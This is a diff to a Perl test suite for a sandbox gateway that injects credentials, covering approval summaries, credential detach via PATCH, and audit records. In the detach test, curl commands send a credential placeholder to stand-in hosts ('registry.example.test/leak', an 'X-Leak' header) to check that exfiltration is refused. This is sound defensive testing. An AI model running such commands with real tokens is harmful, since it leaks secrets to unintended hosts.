@@ -16,10 +16,15 @@
 #           (every attempt is 400); one the proxy refused at load or the
 #           helper has no binding for is 422 credential_unavailable
 #   ask:    a credential under "ask" is 202: the summary names the secret
-#           and says the operator binds its host; approved, the repeat
-#           attaches it
+#           and the host the operator binds it to (the helper's bindings:
+#           host, header, variable, path; never a value); approved, the
+#           repeat attaches it
 #   PATCH:  {"credentials": {"add": [...]}} attaches to a live sandbox
-#           (scope sandbox:network; askable ones need approval)
+#           (scope sandbox:network; askable ones need approval);
+#           {"credentials": {"remove": [...]}} detaches (no human): the
+#           next exec lacks the variable, the host leaves the allowlist,
+#           the placeholder is refused wherever it is sent (plain HTTP, an
+#           intercepted connection) and recorded; the detach is audited
 #   the value is in no response, approval, audit entry, Redis key or log
 #   of the gateway; the metrics count injections and refused placeholders
 use strict;
@@ -243,9 +248,27 @@ is($st, 202, 'create with a credential under "ask": 202') or diag $b;
 my $apr = $j->{approval_id};
 is_deeply($j->{summary}{credentials}{attach}, ['api-token'], 'the summary names the secret');
 is_deeply($j->{summary}{credentials}{needs_approval}, ['api-token'], '... as needing approval');
-like($j->{summary}{credentials}{hosts}, qr/bound by the operator/, '... and says the operator binds its host');
+is_deeply($j->{summary}{credentials}{hosts}, ['b.a.example.test'],
+          '... and the host the operator binds it to (the helper said it)') or diag $b;
+is_deeply($j->{summary}{credentials}{bindings},
+          [ { name => 'api-token', host => 'b.a.example.test', header => 'Authorization',
+              env => 'API_TOKEN' } ],
+          '... with its header and variable, never a value') or diag $b;
 ($st, $h, $b, $j) = req(GET => "/v1/approvals/$apr", $rev);
 is_deeply($j->{summary}{credentials}{attach}, ['api-token'], 'the reviewer reads the secret');
+is_deeply($j->{summary}{credentials}{hosts}, ['b.a.example.test'], '... and its host');
+
+# two at once, one of them with a path, one the helper does not bind
+($st, $h, $b, $j) = create($agent, { credentials => ['api-token', 'git-deploy', 'unbound'] });
+is($st, 202, 'create with an askable credential among others: 202') or diag $b;
+is_deeply($j->{summary}{credentials}{hosts}, ['b.a.example.test', 'a.example.test'],
+          'the summary names each host once');
+is_deeply($j->{summary}{credentials}{bindings},
+          [ { name => 'api-token', host => 'b.a.example.test', header => 'Authorization', env => 'API_TOKEN' },
+            { name => 'git-deploy', host => 'a.example.test', header => 'Authorization', env => 'GIT_TOKEN',
+              path => '/private/' },
+            { name => 'unbound', bound => JSON::PP::false } ],
+          '... each binding, its path, and that one is bound nowhere') or diag $b;
 ($st) = req(POST => "/v1/approvals/$apr/approve", $rev, { reason => 'the API' });
 is($st, 200, 'a reviewer approves');
 ($st, $h, $b, $j) = create($agent, $askbody, { 'Veto-Approval' => $apr });
@@ -302,6 +325,44 @@ is($st, 200, 'a reviewer approves');
 is($st, 200, 'the PATCH repeated with the approval: 200') or diag $b;
 is(scalar @{ $j->{network}{credentials} // [] }, 2, '... the sandbox holds both');
 
+# ---- PATCH: detach ---------------------------------------------------------
+($x, $o) = sh($sb3, 'echo "ph=$GIT_TOKEN"');
+my ($ph) = $o =~ /^ph=(veto-cred-[0-9a-f]{32})$/m;
+ok($ph, "the sandbox holds git-deploy's placeholder");
+for my $c ([ { credentials => { remove => 'git-deploy' } }, 400, 'bad_type', 'credentials.remove' ],
+           [ { credentials => { remove => [] } }, 400, 'bad_value', 'credentials.remove' ],
+           [ { credentials => { remove => ['Bad Name'] } }, 400, 'bad_value', 'credentials.remove[0]' ],
+           [ { credentials => { remove => ['git-deploy', 'git-deploy'] } }, 400, 'bad_value', 'credentials.remove[1]' ],
+           [ { credentials => { remove => ['git-deploy'], add => ['api-token'] } }, 400, 'bad_value', 'credentials' ],
+           [ { credentials => { remove => ['other-token'] } }, 404, 'not_found', 'credentials.remove' ]) {
+    ($st, $h, $b, $j) = req(PATCH => "/v1/sandboxes/$sb3", $agent, $c->[0]);
+    is($st, $c->[1], 'PATCH ' . JSON::PP->new->canonical->encode($c->[0]) . ": $c->[1]") or diag $b;
+    is($j->{type}, "urn:veto-sandbox:problem:$c->[2]", "... $c->[2]") or diag $b;
+    is($j->{field}, $c->[3], "... field $c->[3]");
+}
+($st) = req(PATCH => "/v1/sandboxes/$sb3", $noscope, { credentials => { remove => ['git-deploy'] } });
+is($st, 403, 'PATCH credentials.remove without sandbox:network: 403');
+
+($st, $h, $b, $j) = req(PATCH => "/v1/sandboxes/$sb3", $agent,
+                        { credentials => { remove => ['git-deploy'] } });
+is($st, 200, 'PATCH {"credentials": {"remove": ["git-deploy"]}}: 200 (no human needed)') or diag $b;
+is_deeply([ map { $_->{name} } @{ $j->{network}{credentials} // [] } ], ['api-token'],
+          '... the sandbox holds the other one only');
+($x, $o) = sh($sb3, 'echo "ph=$GIT_TOKEN."; '
+    . "curl -sS -m 10 -H 'Authorization: Bearer $ph' https://a.example.test/private/four 2>&1; "
+    . "curl -sS -m 10 -o /dev/null -w 'plain=%{http_code}\n' -H 'Authorization: Bearer $ph' http://registry.example.test/leak; "
+    . "curl -sS -m 10 -o /dev/null -w 'bound=%{http_code}\n' -H 'X-Leak: $ph' https://b.a.example.test/private/five; "
+    . 'curl -sS -m 10 https://b.a.example.test/private/six');
+like($o, qr/^ph=\.$/m, "the next exec's environment lacks the variable");
+unlike($o, qr{private-ok /private/four}, 'the detached credential is added nowhere: its host is gone from the allowlist');
+like($o, qr/^plain=403$/m, 'its placeholder over plain HTTP is refused');
+like($o, qr/^bound=403$/m, '... and on an intercepted connection to another bound host');
+like($o, qr{^private-ok /private/six 0$}m, 'the credential still attached still works');
+my @gone = grep { ($_->{credential} // '') eq 'git-deploy' && $_->{exfiltration} }
+           @{ $x->{network}{attempts} // [] };
+is(scalar @gone, 2, "the exec's network records both refusals, naming the credential")
+    or diag explain $x->{network};
+
 # ---- records ---------------------------------------------------------------
 my (@recs, $created, @upd);
 for (1 .. 40) {
@@ -315,19 +376,24 @@ for (1 .. 40) {
                         && ($_->{sandbox} // '') eq $sb1 } @recs;
     @upd = grep { ($_->{outcome} // '') eq 'network_updated'
                   && ($_->{sandbox} // '') eq $sb3 } @recs;
-    last if $created && @upd >= 2
+    last if $created && @upd >= 3
              && grep { ($_->{outcome} // '') eq 'approval_requested' } @recs;
     sleep 0.1;
 }
 is_deeply($created && $created->{detail}{credentials_requested}, ['git-deploy'],
           "the create's audit record names the credential attached") or diag explain $created;
 is($created && $created->{detail}{credentials}[0]{host}, 'a.example.test', '... and its host');
-my ($u1) = grep { !$_->{detail}{credentials_needed_approval} } @upd;
+my ($u1) = grep { !$_->{detail}{credentials_needed_approval} && $_->{detail}{credentials_requested} } @upd;
 my ($u2) = grep { $_->{detail}{credentials_needed_approval} } @upd;
 is_deeply($u1 && $u1->{detail}{credentials_requested}, ['git-deploy'], 'the attach to a live sandbox is audited');
 is_deeply($u2 && $u2->{detail}{credentials_needed_approval}, ['api-token'],
           '... and the approved one says so') or diag explain \@upd;
 is($u2 && $u2->{approval}, $apr2, '... with its approval');
+my ($u3) = grep { $_->{detail}{credentials_detached} } @upd;
+is_deeply($u3 && $u3->{detail}{credentials_detached}, ['git-deploy'], 'the detach is audited')
+    or diag explain \@upd;
+is_deeply([ map { $_->{name} } @{ ($u3 && $u3->{detail}{credentials}) // [] } ], ['api-token'],
+          '... with what the sandbox holds after it');
 {
     my ($er) = grep { ($_->{outcome} // '') eq 'sandbox_created' && ($_->{sandbox} // '') eq $sbenv }
                map { @{ (req(GET => "/v1/audit?limit=100&sandbox=$sbenv", $auditor))[3]{records} // [] } } 1;
@@ -349,6 +415,8 @@ my ($asked) = grep { ($_->{outcome} // '') eq 'approval_requested'
 is_deeply($asked && $asked->{detail}{credentials}{attach}, ['api-token'],
           "the approval's audit entry names the secret it attaches")
     or diag explain $asked;
+is_deeply($asked && $asked->{detail}{credentials}{hosts}, ['b.a.example.test'],
+          '... and the host it goes to') or diag explain $asked;
 my ($refused) = grep { ($_->{outcome} // '') eq 'denied'
                        && ($_->{reason} // '') eq 'credential_not_allowed'
                        && ($_->{detail}{why} // '') =~ /other-token/ } @recs;
